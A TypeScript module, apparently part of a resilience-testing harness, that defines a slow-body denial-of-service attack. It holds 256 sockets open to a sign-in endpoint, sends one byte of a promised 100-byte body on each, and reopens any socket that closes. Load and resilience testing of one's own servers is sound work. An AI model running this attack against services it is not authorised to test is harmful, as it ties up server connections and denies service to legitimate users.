import type { Attack } from '../attack.js';
import { head } from '../attacker.js';

const SOCKETS = 256;
const AGAIN_MS = 500;

export const silentBodies: Attack = {
  name: 'silent-bodies',
  about: '256 requests to sign in that send one byte of their bodies, begun anew as soon as they are closed',
  async run(attacker) {
    const request = head('POST /api/session', { 'content-type': 'application/json', 'content-length': 100 }, '{');
    const sockets = Array.from({ length: SOCKETS }, () => attacker.socket(request));
    while (!attacker.signal.aborted) {
      await attacker.pause(AGAIN_MS);
      for (const [n, socket] of sockets.entries()) if (socket.closed) sockets[n] = attacker.socket(request);
    }
  },
};
